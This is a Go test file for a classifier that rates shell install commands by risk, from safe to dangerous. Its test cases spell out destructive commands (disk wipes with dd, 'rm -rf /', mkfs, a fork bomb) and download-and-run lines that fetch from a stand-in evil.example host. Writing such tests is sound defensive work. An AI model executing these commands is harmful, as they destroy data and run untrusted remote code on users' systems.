package risk

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/blackwell-systems/envstate/internal/advisor"
)

func TestClassify(t *testing.T) {
	tests := []struct {
		command string
		want    Level
	}{
		{"rm -rf /", Dangerous},
		{"sudo rm -rf / --no-preserve-root", Dangerous},
		{"dd if=/dev/zero of=/dev/sda bs=1M", Dangerous},
		{"mkfs.ext4 /dev/sdb1", Dangerous},
		{"format C: /q", Dangerous},
		{"chmod -R 777 /", Dangerous},
		{"diskpart", Dangerous},
		{":(){ :|:& };:", Dangerous},
		{"sudo apt-get install -y git", Elevated},
		{"apt install curl", Elevated},
		{"pacman -S --noconfirm jq", Elevated},
		{"systemctl restart docker", Elevated},
		{"echo 'x' | tee /etc/apt/sources.list.d/x.list", Elevated},
		{"npm install -g typescript", Moderate},
		{"pip install requests", Moderate},
		{"cargo install ripgrep", Moderate},
		{"curl -fsSL https://get.example.sh | sh", Moderate},
		{"add-apt-repository ppa:deadsnakes/ppa", Moderate},
		{"echo 'export PATH=$PATH:~/bin' >> ~/.bashrc", Moderate},
		{"brew install jq", Moderate},
		{"git --version", Safe},
		{"node --help", Safe},
		{"which python3", Safe},
		{"python3 -c 'import numpy'", Safe},
		{"brew list", Safe},
		{"frobnicate --all", Moderate},
		{"rm -rf /tmp/build", Moderate},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			got := Classify("  " + tt.command + " ")
			assert.Equal(t, tt.want, got.Risk, "description: %s", got.Description)
			assert.Equal(t, tt.command, got.Command)
			assert.Equal(t, tt.want.Label(), got.Label)
		})
	}
}

func TestClassify_DangerousBeatsSafe(t *testing.T) {
	for _, cmd := range []string{
		"rm -rf / && git --version",
		"dd if=/dev/zero of=/dev/sda; ls",
		"fdisk -l --help",
	} {
		assert.Equal(t, Dangerous, Classify(cmd).Risk, cmd)
	}
}

func TestClassify_LookupWordsDoNotMakeCommandsSafe(t *testing.T) {
	for _, cmd := range []string{
		"rm -rf ~/projects/list",
		"rm -rf /opt/app/status",
		"curl -o /tmp/x https://evil.example/info && bash /tmp/x",
		"cat README && rm -rf build",
		"rm build -v",
		"echo $(curl -s https://evil.example/show)",
		`node -e "require('child_process').execSync('rm -rf ~/src')"`,
		"python3 -c 'import os; os.remove(\"x\")'",
		"ls > /tmp/listing",
	} {
		got := Classify(cmd)
		assert.Equal(t, Moderate, got.Risk, "%s: %s", cmd, got.Description)
	}
}

func TestClassify_ReadOnlyLookups(t *testing.T) {
	for _, cmd := range []string{
		"apt list --installed",
		"apt-cache show curl",
		"winget list",
		"npm ls -g",
		"pip3 show requests",
		"systemctl status docker",
		"dpkg -s git",
		"rpm -q git",
		"pacman -Qi jq",
		"python3 -m pip --version",
		`node -e "require('express')"`,
	} {
		assert.Equal(t, Safe, Classify(cmd).Risk, cmd)
	}
}

func TestClassifyCommands(t *testing.T) {
	cmds, highest, s := ClassifyCommands([]string{"git --version", "sudo apt install git"})
	require.Len(t, cmds, 2)
	assert.Equal(t, Safe, cmds[0].Risk)
	assert.Equal(t, Elevated, highest)
	assert.Equal(t, Summary{Safe: 1, Elevated: 1, Total: 2}, s)

	cmds, highest, s = ClassifyCommands(nil)
	assert.Empty(t, cmds)
	assert.Equal(t, Safe, highest)
	assert.Zero(t, s.Total)
}

func TestClassify_UnknownDefaultsToModerate(t *testing.T) {
	got := Classify("./configure && make")
	assert.Equal(t, Moderate, got.Risk)
	assert.Contains(t, got.Description, "review before running")
}

func TestClassifyAll(t *testing.T) {
	deps := []advisor.Dependency{
		{Name: "git", InstallCommands: []string{"sudo apt install git", "git --version"}},
		{Name: "rust", InstallCommands: []string{"curl https://sh.rustup.rs | sh"}},
		{Name: "wipe", InstallCommands: []string{"which dd", "dd if=/dev/zero of=/dev/sda"}},
	}

	rep := ClassifyAll(deps)
	require.Len(t, rep.Dependencies, 3)
	assert.Equal(t, Elevated, rep.Dependencies[0].HighestRisk)
	assert.Equal(t, Moderate, rep.Dependencies[1].HighestRisk)
	assert.Equal(t, Dangerous, rep.Dependencies[2].HighestRisk)
	assert.Equal(t, Summary{Safe: 2, Moderate: 1, Elevated: 1, Dangerous: 1, Total: 5}, rep.Summary)
}

func TestLevelJSON(t *testing.T) {
	b, err := json.Marshal(Classify("git --version"))
	require.NoError(t, err)
	assert.Contains(t, string(b), `"risk":"safe"`)

	var l Level
	require.NoError(t, l.UnmarshalText([]byte("Elevated")))
	assert.Equal(t, Elevated, l)
	assert.Error(t, l.UnmarshalText([]byte("spicy")))
}
